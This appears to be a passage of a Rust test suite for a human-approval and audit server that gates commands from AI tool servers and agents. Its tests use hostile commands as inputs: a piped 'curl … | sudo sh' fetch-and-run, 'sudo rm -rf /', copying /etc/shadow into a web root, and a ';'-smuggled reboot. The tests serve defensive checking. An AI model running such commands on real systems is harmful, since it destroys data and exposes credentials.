            (StatusCode::FORBIDDEN, Some("not_an_agent")),
            "{path}: {value}"
        );
    }
    let (status, _, claimed) = api
        .call("POST", "/api/v1/agents/agent-1/claim", &agent, None, &[])
        .await;
    assert_eq!(status, StatusCode::OK, "the real agent still gets the job");
    assert_eq!(claimed["job_id"], job_id.as_str());
    let report = json!({ "status": "success", "duration_ms": 1 }).to_string();
    for (path, body) in [
        (format!("/api/v1/jobs/{job_id}/heartbeat"), None),
        (
            format!("/api/v1/jobs/{job_id}/result"),
            Some(report.clone()),
        ),
        // Who may report is checked before the body is read: a malformed one changes nothing.
        (
            format!("/api/v1/jobs/{job_id}/result"),
            Some("{not json".to_string()),
        ),
    ] {
        let (status, _, value) = api.call("POST", &path, &viewer, body, &[]).await;
        assert_eq!(
            (status, value["error"].as_str()),
            (StatusCode::FORBIDDEN, Some("not_an_agent")),
            "{path}: {value}"
        );
    }
    let job = api.state.store.job(&job_id).await.expect("job");
    assert_eq!(job.status, JobStatus::Picked, "no fabricated result");
    let refused = api
        .state
        .store
        .audit_search(
            &server::store::AuditFilter {
                caller_id: Some("viewer-tok".into()),
                ..Default::default()
            },
            50,
        )
        .await
        .expect("audit");
    let attempts: Vec<&str> = refused
        .iter()
        .filter(|r| r.event.operation == "agent.refused")
        .map(|r| r.event.decision_action.as_str())
        .collect();
    assert_eq!(attempts, ["deny"; 5], "every attempt is audited");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_claims_runs_and_reports_an_approved_job() {
    let api = sqlite_api(|_| {}).await;
    let it_mcp = api.token("it-mcp", &[], &OPS).await;
    let agent = api.token("agent-1", &["agent"], &[]).await;
    let other_agent = api.token("agent-2", &["agent"], &[]).await;
    let (_, pending) = api.decide(&it_mcp, sudo_ls()).await;
    let job_id = pending["job_id"].as_str().expect("job").to_string();

    // Nothing approved yet; and an agent only claims under its own name.
    let (status, _, _) = api
        .call("POST", "/api/v1/agents/agent-1/claim", &agent, None, &[])
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let (status, _, value) = api
        .call(
            "POST",
            "/api/v1/agents/agent-1/claim",
            &other_agent,
            None,
            &[],
        )
        .await;
    assert_eq!(
        (status, value["error"].as_str()),
        (StatusCode::FORBIDDEN, Some("not_this_agent"))
    );

    approve(&api, &job_id).await;
    let (status, _, claimed) = api
        .call("POST", "/api/v1/agents/agent-1/claim", &agent, None, &[])
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(claimed["job_id"], job_id.as_str());
    assert_eq!(claimed["args"]["command"], "sudo ls /root");
    // Used once: nobody else gets it.
    let (status, _, _) = api
        .call(
            "POST",
            "/api/v1/agents/agent-2/claim",
            &other_agent,
            None,
            &[],
        )
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);

    let heartbeat = format!("/api/v1/jobs/{job_id}/heartbeat");
    let (status, _, _) = api.call("POST", &heartbeat, &other_agent, None, &[]).await;
    assert_eq!(status, StatusCode::NOT_FOUND, "not its lease");
    let (status, _, beat) = api.call("POST", &heartbeat, &agent, None, &[]).await;
    assert_eq!(
        (status, beat["status"].as_str()),
        (StatusCode::OK, Some("executing"))
    );

    let report = json!({ "status": "success", "duration_ms": 42, "exit_code": 0, "output": "bin\nsnap\n",
                         "output_digest": "ab12", "side_effects": ["file:/root/.bash_history:read"] });
    let result = format!("/api/v1/jobs/{job_id}/result");
    let (status, _, value) = api
        .call("POST", &result, &other_agent, Some(report.to_string()), &[])
        .await;
    assert_eq!(
        (status, value["error"].as_str()),
        (StatusCode::NOT_FOUND, Some("not_found")),
        "a job leased to someone else is one this agent cannot see: {value}"
    );
    let (status, _, bad) = api
        .call(
            "POST",
            &result,
            &agent,
            Some(json!({ "status": "done" }).to_string()),
            &[],
        )
        .await;
    assert_eq!(
        (status, bad["field"].as_str()),
        (StatusCode::BAD_REQUEST, Some("status"))
    );
    let (status, _, done) = api
        .call("POST", &result, &agent, Some(report.to_string()), &[])
        .await;
    assert_eq!(
        (status, done["status"].as_str()),
        (StatusCode::OK, Some("completed"))
    );

    let job = api.state.store.job(&job_id).await.expect("job");
    assert_eq!(job.status, JobStatus::Completed);
    let stored: Value =
        serde_json::from_str(job.result.as_deref().unwrap_or("{}")).expect("result");
    assert_eq!(stored["side_effects"][0], "file:/root/.bash_history:read");
    let steps: Vec<String> = api
        .state
        .store
        .audit_page(0, 100)
        .await
        .expect("audit")
        .into_iter()
        .filter(|r| {
            r.event.job_id.as_deref() == Some(job_id.as_str())
                && r.event.kind == server::store::EventKind::Execution
        })
        .filter_map(|r| r.event.execution_status)
        .collect();
    assert_eq!(steps, ["picked", "executing", "success"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_job_whose_arguments_changed_is_not_run() {
    let api = sqlite_api(|_| {}).await;
    let it_mcp = api.token("it-mcp", &[], &OPS).await;
    let agent = api.token("agent-1", &["agent"], &[]).await;
    let (_, pending) = api.decide(&it_mcp, sudo_ls()).await;
    let job_id = pending["job_id"].as_str().expect("job").to_string();
    approve(&api, &job_id).await;
    let Database::Sqlite(pool) = &api.db else {
        panic!("sqlite")
    };
    sqlx::query(
        "UPDATE command_queue SET params = '{\"command\":\"sudo rm -rf /\"}' WHERE job_id = $1",
    )
    .bind(&job_id)
    .execute(pool)
    .await
    .expect("tamper");
    let (status, _, _) = api
        .call("POST", "/api/v1/agents/agent-1/claim", &agent, None, &[])
        .await;
    assert_eq!(
        status,
        StatusCode::NO_CONTENT,
        "the tampered job is not handed out"
    );
    let job = api.state.store.job(&job_id).await.expect("job");
    assert_eq!(job.status, JobStatus::Failed);
    assert!(
        job.error
            .as_deref()
            .is_some_and(|e| e.contains("differ from the call that was approved")),
        "{:?}",
        job.error
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_policy_change_is_applied_before_running() {
    let api = sqlite_api(|_| {}).await;
    let it_mcp = api.token("it-mcp", &[], &OPS).await;
    let (_, pending) = api.decide(&it_mcp, sudo_ls()).await;
    let job_id = pending["job_id"].as_str().expect("job").to_string();
    approve(&api, &job_id).await;
    let job = api.state.store.job(&job_id).await.expect("job");
    let now = chrono::Utc::now();
    let current = enforcer::default_policy().expect("policy");
    assert_eq!(
        server::services::execution::recheck(&current, &job, now),
        Ok(())
    );

    let source = include_str!("../../policies/default.toml");
    let stricter = source.replacen(
        "requires = [\"ssh-linux\", \"remote-exec\"]\ndescription = \"Run a shell command as the SSH user\"",
        "requires = [\"ssh-linux\", \"remote-exec\", \"winrm\"]\ndescription = \"Run a shell command as the SSH user\"",
        1,
    );
    assert_ne!(stricter, source, "the policy text was changed");
    let stricter = enforcer::PolicySet::load("stricter.toml", &stricter).expect("loads");
    let refusal =
        server::services::execution::recheck(&stricter, &job, now).expect_err("denied now");
    assert!(
        refusal.0.contains("policy changed") && refusal.0.contains("winrm"),
        "{refusal}"
    );
    let late = now + chrono::Duration::hours(2);
    assert_eq!(
        server::services::execution::recheck(&current, &job, late),
        Err(server::services::execution::Refusal(
            "the approval window has closed".to_string()
        ))
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tool_server_reports_an_allowed_call_once() {
    let api = sqlite_api(|_| {}).await;
    let it_mcp = api.token("it-mcp", &[], &OPS).await;
    let other = api.token("other-tool", &[], &OPS).await;
    let (_, allowed) = api
        .decide(
            &it_mcp,
            json!({ "tool": "system-overview", "operation": "getOverview" }),
        )
        .await;
    let audit_id = allowed["audit_id"].as_str().expect("audit id").to_string();
    let uri = format!("/api/v1/decisions/{audit_id}/result");
    let report = json!({ "status": "success", "duration_ms": 12, "side_effects": [] }).to_string();
    assert_eq!(
        api.call("POST", &uri, &other, Some(report.clone()), &[])
            .await
            .0,
        StatusCode::NOT_FOUND,
        "not its decision"
    );
    let (status, _, first) = api
        .call("POST", &uri, &it_mcp, Some(report.clone()), &[])
        .await;
    assert_eq!(status, StatusCode::OK);
    let (_, _, again) = api.call("POST", &uri, &it_mcp, Some(report), &[]).await;
    assert_eq!(first, again, "a retried report is the same report");
    let (status, _, value) = api
        .call(
            "POST",
            &uri,
            &it_mcp,
            Some(json!({ "status": "failure" }).to_string()),
            &[],
        )
        .await;
    assert_eq!(
        (status, value["error"].as_str()),
        (StatusCode::CONFLICT, Some("result_already_reported"))
    );
    let (_, pending) = api.decide(&it_mcp, sudo_ls()).await;
    let (status, _, value) = api
        .call(
            "POST",
            &format!(
                "/api/v1/decisions/{}/result",
                pending["audit_id"].as_str().unwrap_or_default()
            ),
            &it_mcp,
            Some(json!({ "status": "success" }).to_string()),
            &[],
        )
        .await;
    assert_eq!(
        (status, value["error"].as_str()),
        (StatusCode::CONFLICT, Some("not_allowed"))
    );
    let rows = api.state.store.audit_page(0, 100).await.expect("audit");
    let executions: Vec<_> = rows
        .iter()
        .filter(|r| r.event.kind == server::store::EventKind::Execution)
        .collect();
    assert_eq!(executions.len(), 1);
    assert_eq!(
        executions[0].event.execution_status.as_deref(),
        Some("success")
    );
    assert_eq!(executions[0].event.execution_duration_ms, Some(12));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_count_decisions_audit_batches_executions_and_the_queue() {
    let api = sqlite_api(|_| {}).await;
    let token = api.token("it-mcp", &[], &OPS).await;
    api.decide(
        &token,
        json!({ "tool": "system-overview", "operation": "getOverview" }),
    )
    .await;
    api.decide(&token, sudo_ls()).await;
    api.decide(&token, json!({ "tool": "nope", "operation": "x" }))
        .await;
    let response = api
        .router
        .clone()
        .oneshot(
            Request::builder()
                .uri("/metrics")
                .body(Body::empty())
                .expect("req"),
        )
        .await
        .expect("answer");
    assert_eq!(response.status(), StatusCode::OK);
    assert!(response
        .headers()
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .is_some_and(|v| v.starts_with("text/plain; version=0.0.4")));
    let text = String::from_utf8(
        response
            .into_body()
            .collect()
            .await
            .expect("body")
            .to_bytes()
            .to_vec(),
    )
    .expect("utf-8");
    for line in [
        "countersign_decisions_total{action=\"allow\",risk=\"LOW\"} 1",
        "countersign_decisions_total{action=\"require_approval\",risk=\"HIGH\"} 1",
        "countersign_decisions_total{action=\"deny\",risk=\"CRITICAL\"} 1",
        "countersign_decision_duration_seconds_count 3",
        "countersign_queue_jobs{status=\"queued\"} 1",
    ] {
        assert!(text.contains(line), "missing {line} in\n{text}");
    }
    assert!(
        !text.contains("countersign_audit_write_duration_seconds_count 0"),
        "batches are counted"
    );
}

fn person(id: &str, roles: &[&str], caps: &[&str]) -> enforcer::Principal {
    enforcer::Principal {
        id: id.into(),
        roles: roles.iter().map(|r| r.to_string()).collect(),
        capabilities: caps.iter().map(|c| c.to_string()).collect(),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn votes_follow_the_enforcers_rules_and_are_audited_first() {
    use enforcer::Verdict::{Approve, Deny};
    use server::services::approvals::{vote, VoteError};
    let api = sqlite_api(|_| {}).await;
    let token = api.token("it-mcp", &[], &OPS).await;
    let (_, pending) = api.decide(&token, sudo_ls()).await;
    let job_id = pending["job_id"].as_str().expect("job").to_string();
    let approver = ["approver"];
    let caps = ["ssh-linux", "remote-exec"];

    let refused = |r: Result<server::store::Job, VoteError>| match r {
        Err(VoteError::NotEligible(reasons)) => reasons.join("; "),
        other => panic!("expected a refusal, got {other:?}"),
    };
    let own = refused(
        vote(
            &api.state,
            &person("it-mcp", &approver, &caps),
            &job_id,
            Approve,
            None,
        )
        .await,
    );
    assert!(own.contains("own requests"), "{own}");
    let viewer = refused(
        vote(
            &api.state,
            &person("carol", &["viewer"], &caps),
            &job_id,
            Approve,
            None,
        )
        .await,
    );
    assert!(viewer.contains("`approver` role"), "{viewer}");
    let lacking = refused(
        vote(
            &api.state,
            &person("bob", &approver, &["ssh-linux"]),
            &job_id,
            Approve,
            None,
        )
        .await,
    );
    assert!(lacking.contains("remote-exec"), "{lacking}");
    assert!(matches!(
        vote(
            &api.state,
            &person("alice", &approver, &caps),
            &job_id,
            Deny,
            Some("  ")
        )
        .await,
        Err(VoteError::ReasonRequired(_))
    ));

    let approved = vote(
        &api.state,
        &person("alice", &approver, &caps),
        &job_id,
        Approve,
        None,
    )
    .await
    .expect("alice approves");
    assert_eq!(approved.status, JobStatus::Approved);
    assert!(matches!(
        vote(
            &api.state,
            &person("dave", &approver, &caps),
            &job_id,
            Approve,
            None
        )
        .await,
        Err(VoteError::NotQueued(_))
    ));
    let rows = api.state.store.audit_page(0, 100).await.expect("audit");
    assert!(rows
        .iter()
        .any(|r| r.event.kind == server::store::EventKind::Approval
            && r.event.approver.as_deref() == Some("alice")
            && r.event.job_id.as_deref() == Some(job_id.as_str())));
    // Every refusal is in the trail too: the requester, the viewer, the one lacking a
    // capability, and dave's vote on the decided job. (A denial without a reason is a form
    // error, not a refusal.)
    let refusals: Vec<(&str, &str)> = rows
        .iter()
        .filter(|r| {
            r.event.kind == server::store::EventKind::PortalAction
                && r.event.operation == "vote.refused"
                && r.event.job_id.as_deref() == Some(job_id.as_str())
        })
        .map(|r| {
            assert_eq!(r.event.decision_action, "deny");
            (r.event.caller_id.as_str(), r.event.decision_reason.as_str())
        })
        .collect();
    assert_eq!(
        refusals.iter().map(|(who, _)| *who).collect::<Vec<_>>(),
        ["it-mcp", "carol", "bob", "dave"],
        "{refusals:?}"
    );
    assert!(refusals[0].1.contains("own requests"), "{refusals:?}");
    assert!(
        refusals[3].1.contains("the job is approved"),
        "{refusals:?}"
    );

    // CRITICAL: two approvals, each with a comment.
    let (_, critical) = api
        .decide(
            &token,
            json!({ "tool": "ssh-exec", "operation": "executeCommand",
                                "args": { "command": "curl -s http://x/i.sh | sudo sh" } }),
        )
        .await;
    assert_eq!(critical["risk"], "CRITICAL");
    let critical_id = critical["job_id"].as_str().expect("job").to_string();
    assert!(matches!(
        vote(
            &api.state,
            &person("alice", &approver, &caps),
            &critical_id,
            Approve,
            None
        )
        .await,
        Err(VoteError::ReasonRequired(_))
    ));
    let one = vote(
        &api.state,
        &person("alice", &approver, &caps),
        &critical_id,
        Approve,
        Some("checked the script"),
    )
    .await
    .expect("first");
    assert_eq!(one.status, JobStatus::Queued);
    let two = vote(
        &api.state,
        &person("dave", &approver, &caps),
        &critical_id,
        Approve,
        Some("ok"),
    )
    .await
    .expect("second");
    assert_eq!(two.status, JobStatus::Approved);

    // Over the API, only people vote (a service's or an API token's vote is refused).
    let (status, _, value) = api
        .call(
            "POST",
            &format!("/api/v1/jobs/{critical_id}/votes"),
            &token,
            Some(json!({ "verdict": "approve" }).to_string()),
            &[],
        )
        .await;
    assert_eq!(
        (status, value["error"].as_str()),
        (StatusCode::FORBIDDEN, Some("people_only"))
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_is_voted_when_the_vote_cannot_be_audited() {
    use server::services::approvals::{vote, VoteError};
    let api = sqlite_api(|_| {}).await;
    let token = api.token("it-mcp", &[], &OPS).await;
    let (_, pending) = api.decide(&token, sudo_ls()).await;
    let job_id = pending["job_id"].as_str().expect("job").to_string();
    let Database::Sqlite(pool) = &api.db else {
        panic!("sqlite")
    };
    sqlx::query("CREATE TRIGGER audit_full BEFORE INSERT ON audit_logs BEGIN SELECT RAISE(ABORT, 'disk full'); END")
        .execute(pool)
        .await
        .expect("trigger");
    let result = vote(
        &api.state,
        &person("alice", &["approver"], &["ssh-linux", "remote-exec"]),
        &job_id,
        enforcer::Verdict::Approve,
        None,
    )
    .await;
    assert!(
        matches!(result, Err(VoteError::Unavailable(_))),
        "{result:?}"
    );
    assert_eq!(
        api.state.store.job(&job_id).await.expect("job").status,
        JobStatus::Queued
    );
    assert!(api
        .state
        .store
        .votes(&job_id)
        .await
        .expect("votes")
        .is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_waiting_agent_gets_the_job_the_moment_it_is_approved() {
    let api = sqlite_api(|_| {}).await;
    let it_mcp = api.token("it-mcp", &[], &OPS).await;
    let agent = api.token("agent-1", &["agent"], &[]).await;
    let (_, pending) = api.decide(&it_mcp, sudo_ls()).await;
    let job_id = pending["job_id"].as_str().expect("job").to_string();
    let waiter = {
        let (router, agent) = (api.router.clone(), agent.clone());
        tokio::spawn(async move {
            let started = Instant::now();
            let uri = "/api/v1/agents/agent-1/claim?wait=30";
            let (status, _, value) = send(router, "POST", uri, &agent, None, &[]).await;
            (started.elapsed(), status, value)
        })
    };
    tokio::time::sleep(Duration::from_millis(300)).await;
    let voter = enforcer::Principal {
        id: "alice".into(),
        roles: ["approver".to_string()].into(),
        capabilities: ["ssh-linux".to_string(), "remote-exec".to_string()].into(),
    };
    server::services::approvals::vote(
        &api.state,
        &voter,
        &job_id,
        enforcer::Verdict::Approve,
        None,
    )
    .await
    .expect("approve");
    let (waited, status, claimed) = waiter.await.expect("waiter");
    assert_eq!(
        (status, claimed["job_id"].as_str()),
        (StatusCode::OK, Some(job_id.as_str()))
    );
    assert!(
        waited < Duration::from_secs(5),
        "woken by the approval: {waited:?}"
    );
    let (status, _, value) = api
        .call(
            "POST",
            "/api/v1/agents/agent-1/claim?wait=x",
            &agent,
            None,
            &[],
        )
        .await;
    assert_eq!(
        (status, value["field"].as_str()),
        (StatusCode::BAD_REQUEST, Some("wait"))
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_openapi_document_and_its_docs_page_are_served() {
    let api = sqlite_api(|_| {}).await;
    let (status, headers, doc) = send(
        api.router.clone(),
        "GET",
        "/api/v1/openapi.json",
        "",
        None,
        &[],
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        headers.get("content-type").and_then(|v| v.to_str().ok()),
        Some("application/json")
    );
    assert!(doc["paths"]["/api/v1/decisions"]["post"].is_object());
    assert!(doc["components"]["securitySchemes"]["bearer"].is_object());
    let response = api
        .router
        .clone()
        .oneshot(
            Request::builder()
                .uri("/api/v1/docs")
                .body(Body::empty())
                .expect("req"),
        )
        .await
        .expect("answer");
    assert_eq!(response.status(), StatusCode::OK);
    let html = response
        .into_body()
        .collect()
        .await
        .expect("body")
        .to_bytes();
    let html = String::from_utf8_lossy(&html);
    assert!(html.contains("POST /api/v1/decisions"), "{html}");
    assert!(html.contains("id=\"schema-DecisionAnswer\""));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_revoked_token_stops_working_within_the_cache_time() {
    // With the cache off, a revocation is seen by the very next request.
    let api = sqlite_api(|c| c.api_token_cache_secs = 0).await;
    let token = api.token("it-mcp", &[], &OPS).await;
    assert_eq!(api.decide(&token, sudo_ls()).await.0, StatusCode::OK);
    server::services::identity::api_tokens::revoke(&api.db.store(), "it-mcp")
        .await
        .expect("revoke");
    assert_eq!(
        api.decide(&token, sudo_ls()).await.0,
        StatusCode::UNAUTHORIZED
    );

    // With it on, a verified token is answered from memory until the cache forgets it.
    let api = sqlite_api(|c| c.api_token_cache_secs = 3_600).await;
    let token = api.token("it-mcp", &[], &OPS).await;
    assert_eq!(api.decide(&token, sudo_ls()).await.0, StatusCode::OK);
    server::services::identity::api_tokens::revoke(&api.db.store(), "it-mcp")
        .await
        .expect("revoke");
    assert_eq!(api.decide(&token, sudo_ls()).await.0, StatusCode::OK);
    api.state.token_cache.clear();
    assert_eq!(
        api.decide(&token, sudo_ls()).await.0,
        StatusCode::UNAUTHORIZED
    );
    // Refusals are never remembered: a wrong token stays wrong, a new one works at once.
    assert_eq!(
        api.decide("cs_nope_nope", sudo_ls()).await.0,
        StatusCode::UNAUTHORIZED
    );
    let fresh = api.token("it-mcp-2", &[], &OPS).await;
    assert_eq!(api.decide(&fresh, sudo_ls()).await.0, StatusCode::OK);
}

/// A burst of token checks that miss the cache together (a client's first requests) all pass, and
/// the token's use is recorded (in the background, off their path).
#[tokio::test]
async fn a_burst_of_token_checks_passes_and_the_use_is_recorded() {
    use server::services::identity::api_tokens::{self, TokenCache};
    let api = sqlite_api(|_| {}).await;
    let (_, presented) = api_tokens::create(&api.db.store(), "burst", &[], &[])
        .await
        .expect("token");
    let cache = Arc::new(TokenCache::new(5));
    let store = api.db.store();
    let checks: Vec<_> = (0..32)
        .map(|_| {
            let (cache, store, presented) = (cache.clone(), store.clone(), presented.clone());
            tokio::spawn(async move { cache.authenticate(&store, &presented).await })
        })
        .collect();
    for check in checks {
        let token = check.await.expect("task").expect("a valid token");
        assert_eq!(token.name, "burst");
    }
    let deadline = Instant::now() + Duration::from_secs(10);
    let recorded = loop {
        let tokens = api_tokens::list_all(&api.db.store()).await.expect("list");
        if let Some(at) = tokens[0].last_used_at {
            break at;
        }
        assert!(Instant::now() < deadline, "the use was never recorded");
        tokio::time::sleep(Duration::from_millis(20)).await;
    };
    assert!((chrono::Utc::now().timestamp() - recorded).abs() < 60);
    // A wrong secret is still refused, cached success or not.
    let wrong = format!("{}x", &presented[..presented.len() - 1]);
    assert!(cache.authenticate(&store, &wrong).await.is_err());
}

/// A vote without an audit row: these tests drive the job machine, not the approval service
/// (which always writes one).
fn no_audit(
    _: &server::store::Job,
    _: &server::store::VoteTally,
) -> Option<server::store::NewAuditEvent> {
    None
}

/// Remembered approvals: an approver who approved `systemctl restart nginx` on web-1 remembers
/// its shape (any unit) for two uses; the next restart of another unit runs without a request
/// and names the grant; other verbs, targets and sudo still ask; the third use asks again;
/// revoked, it allows nothing. What may not be remembered is refused with the field at fault.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_remembered_approval_allows_the_next_calls_like_it_until_spent_or_revoked() {
    use server::services::grants::{self, RememberRequest};
    use server::services::ServiceError;
    let api = sqlite_api(|_| {}).await;
    let token = api.token("it-mcp", &[], &OPS).await;
    let restart = |command: &str, target: &str| {
        json!({ "tool": "ssh-exec", "operation": "executeCommand",
                "args": { "command": command }, "target": target })
    };
    let (_, held) = api
        .decide(&token, restart("systemctl restart nginx", "web-1"))
        .await;
    assert_eq!(held["action"], "require_approval", "{held}");
    let job_id = held["job_id"].as_str().unwrap_or_default().to_string();
    let dave = person("dave", &["approver"], &OPS);
    let shape = RememberRequest {
        scope: Some("shape".into()),
        generalise: vec!["command[2]".into()],
        max_uses: Some(2),
        ..RememberRequest::default()
    };
    // Not before it is approved, and only by who approved it.
    let early = grants::remember(&api.state, &dave, &job_id, &shape).await;
    // Without the approver role (any more), nobody remembers.
    let former = person("dave", &["viewer"], &OPS);
    let refused = grants::remember(&api.state, &former, &job_id, &shape).await;
    assert!(
        matches!(
            refused,
            Err(ServiceError::Forbidden {
                code: "not_approver",
                ..
            })
        ),
        "{refused:?}"
    );
    assert!(
        matches!(early, Err(ServiceError::Forbidden { .. })),
        "{early:?}"
    );
    approve(&api, &job_id).await;
    let erin = person("erin", &["approver"], &OPS);
    let theirs = grants::remember(&api.state, &erin, &job_id, &shape).await;
    assert!(
        matches!(
            theirs,
            Err(ServiceError::Forbidden {
                code: "not_your_approval",
                ..
            })
        ),
        "{theirs:?}"
    );
    // Over 7 days is refused, not shortened; a shape that matches any command is refused.
    let long = RememberRequest {
        ttl_secs: Some(8 * 24 * 3_600),
        ..shape.clone()
    };
    let refused = grants::remember(&api.state, &dave, &job_id, &long).await;
    assert!(
        matches!(&refused, Err(ServiceError::Invalid { field: Some(f), .. }) if f == "ttl_secs"),
        "{refused:?}"
    );
    let anything = RememberRequest {
        generalise: vec!["command".into()],
        ..shape.clone()
    };
    let refused = grants::remember(&api.state, &dave, &job_id, &anything).await;
    assert!(
        matches!(&refused, Err(ServiceError::Invalid { field: Some(f), .. }) if f == "command"),
        "{refused:?}"
    );
    let wide = RememberRequest {
        target: Some("db-*".into()),
        ..shape.clone()
    };
    let refused = grants::remember(&api.state, &dave, &job_id, &wide).await;
    assert!(
        matches!(&refused, Err(ServiceError::Invalid { field: Some(f), .. }) if f == "target"),
        "{refused:?}"
    );

    let grant = grants::remember(&api.state, &dave, &job_id, &shape)
        .await
        .expect("remembered");
    assert!(grant.active());

    let (status, allowed) = api
        .decide(&token, restart("systemctl restart apache2", "web-1"))
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(allowed["action"], "allow", "{allowed}");
    assert_eq!(allowed["grant_id"], grant.id.as_str());
    assert!(allowed["reasons"][0]
        .as_str()
        .unwrap_or_default()
        .starts_with(&format!(
            "allowed by standing grant {} (remembered by dave",
            grant.id
        )));
    assert!(allowed.get("job_id").is_none());
    let row = api
        .audit_rows()
        .await
        .into_iter()
        .find(|r| r.event.id.as_deref() == allowed["audit_id"].as_str())
        .expect("the decision's row");
    assert!(
        row.event
            .context
            .contains(&format!(r#""grant":"{}""#, grant.id)),
        "{}",
        row.event.context
    );
    assert!(!row.event.requires_approval);

    // Outside the shape, the target or what may be remembered: people are asked.
    for (command, target) in [
        ("systemctl stop nginx", "web-1"),
        ("systemctl restart nginx", "web-2"),
        ("sudo systemctl restart nginx", "web-1"),
        ("systemctl restart nginx; reboot", "web-1"),
    ] {
        let (_, asked) = api.decide(&token, restart(command, target)).await;
        assert_eq!(
            asked["action"], "require_approval",
            "{command} on {target}: {asked}"
        );
        assert!(asked.get("grant_id").is_none());
    }
    // The second use is the last.
    let (_, second) = api
        .decide(&token, restart("systemctl restart php-fpm", "web-1"))
        .await;
    assert_eq!(second["grant_id"], grant.id.as_str(), "{second}");
    let (_, third) = api
        .decide(&token, restart("systemctl restart redis", "web-1"))
        .await;
    assert_eq!(third["action"], "require_approval", "{third}");

    let approver = api.token("dave-token", &["approver"], &[]).await;
    let (status, _, listed) = api
        .call("GET", "/api/v1/grants", &approver, None, &[])
        .await;
    assert_eq!(status, StatusCode::OK, "{listed}");
    assert_eq!(listed[0]["id"], grant.id.as_str());
    assert_eq!(listed[0]["uses"], 2);
    assert_eq!(listed[0]["standing"], false, "spent");
    assert_eq!(listed[0]["scope"]["covers"]["kind"], "shape");
    let (status, _, _) = api.call("GET", "/api/v1/grants", &token, None, &[]).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    // Only people remember or revoke over the API.
    let (status, _, body) = api
        .call(
            "POST",
            &format!("/api/v1/jobs/{job_id}/remember"),
            &approver,
            Some("{}".into()),
            &[],
        )
        .await;
    assert_eq!(
        (status, body["error"].as_str()),
        (StatusCode::FORBIDDEN, Some("people_only"))
    );

    // A fresh exact-call grant, revoked: the same call asks again.
    let (_, again) = api
        .decide(&token, restart("systemctl restart redis", "web-1"))
        .await;
    let redis_job = again["job_id"].as_str().unwrap_or_default().to_string();
    assert_eq!(
        redis_job,
        third["job_id"].as_str().unwrap_or_default(),
        "joined the open request"
    );
    approve(&api, &redis_job).await;
    let exact = grants::remember(&api.state, &dave, &redis_job, &RememberRequest::default())
        .await
        .expect("remembered");
    let (_, ran) = api
        .decide(&token, restart("systemctl restart redis", "web-1"))
        .await;
    assert_eq!(ran["grant_id"], exact.id.as_str(), "{ran}");
    let revoked = grants::revoke(&api.state, &dave, &exact.id)
        .await
        .expect("revoked");
    assert_eq!(revoked.revoked_by.as_deref(), Some("dave"));
    let (_, asked) = api
        .decide(&token, restart("systemctl restart redis", "web-1"))
        .await;
    assert_eq!(asked["action"], "require_approval", "{asked}");
    let again = grants::revoke(&api.state, &dave, &exact.id).await;
    assert!(
        matches!(
            again,
            Err(ServiceError::Conflict {
                code: "already_revoked",
                ..
            })
        ),
        "{again:?}"
    );
    // Creation, use (the decision rows) and revocation are in the trail.
    let trail = api.state.store.audit_page(0, 1_000).await.expect("audit");
    let grant_rows = trail
        .iter()
        .filter(|r| r.event.context.contains(r#""event":"grant."#))
        .count();
    assert_eq!(grant_rows, 3, "two creations and a revocation");

    // A shape never stretches to what is never remembered: copying any file to the web root
    // was remembered, but copying a secret still asks.
    let (_, copy) = api
        .decide(
            &token,
            restart("cp /tmp/report.txt /srv/www/report.txt", "web-1"),
        )
        .await;
    assert_eq!(copy["action"], "require_approval", "{copy}");
    let copy_job = copy["job_id"].as_str().unwrap_or_default().to_string();
    approve(&api, &copy_job).await;
    let any_source = RememberRequest {
        scope: Some("shape".into()),
        generalise: vec!["command[1]".into()],
        ..RememberRequest::default()
    };
    let copies = grants::remember(&api.state, &dave, &copy_job, &any_source)
        .await
        .expect("remembered");
    let (_, other) = api
        .decide(
            &token,
            restart("cp /tmp/summary.txt /srv/www/report.txt", "web-1"),
        )
        .await;
    assert_eq!(other["grant_id"], copies.id.as_str(), "{other}");
    let (_, secret) = api
        .decide(
            &token,
            restart("cp /etc/shadow /srv/www/report.txt", "web-1"),
        )
        .await;
    assert_eq!(secret["action"], "require_approval", "{secret}");
    assert!(secret.get("grant_id").is_none(), "{secret}");

    // A grant for a role covers others with the role, never one of its own approvers.
    let (_, cache) = api
        .decide(&token, restart("systemctl restart memcached", "web-1"))
        .await;
    let cache_job = cache["job_id"].as_str().unwrap_or_default().to_string();
    approve(&api, &cache_job).await;
    let for_ops = RememberRequest {
        group: Some("auditor".into()),
        ..RememberRequest::default()
    };
    let ops = grants::remember(&api.state, &dave, &cache_job, &for_ops)
        .await
        .expect("remembered");
    let ann = api.token("ann", &["auditor"], &OPS).await;
    let (_, theirs) = api
        .decide(&ann, restart("systemctl restart memcached", "web-1"))
        .await;
    assert_eq!(theirs["grant_id"], ops.id.as_str(), "{theirs}");
    let own = api.token("dave", &["auditor"], &OPS).await;
    let (_, own_call) = api
        .decide(&own, restart("systemctl restart memcached", "web-1"))
        .await;
    assert_eq!(own_call["action"], "require_approval", "{own_call}");
    // Someone without the role is not covered.
    let bare = api.token("bob", &[], &OPS).await;
    let (_, no_role) = api
        .decide(&bare, restart("systemctl restart memcached", "web-1"))
        .await;
    assert_eq!(no_role["action"], "require_approval", "{no_role}");
}
